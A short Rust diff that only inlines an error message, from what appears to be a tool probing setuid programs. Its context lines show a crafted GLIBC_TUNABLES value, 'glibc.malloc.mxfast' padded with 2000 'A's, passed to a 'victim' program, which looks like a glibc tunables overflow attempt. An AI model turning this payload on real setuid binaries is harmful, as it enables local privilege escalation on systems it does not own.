@@ -106,8 +106,7 @@ fn set_uid(victim: &Victim) -> Result<Child> {
     command.env("GLIBC_TUNABLES", format!("glibc.malloc.mxfast={}", "A".repeat(2000)));
     waiting(&mut command).map_err(|error| match error.downcast_ref::<std::io::Error>() {
         Some(cause) if cause.kind() == std::io::ErrorKind::PermissionDenied => {
-            let text = format!("{} is out of reach of other users", program.display());
-            NotHere(text).into()
+            NotHere(format!("{} is out of reach of other users", program.display())).into()
         }
         _ => error,
     })
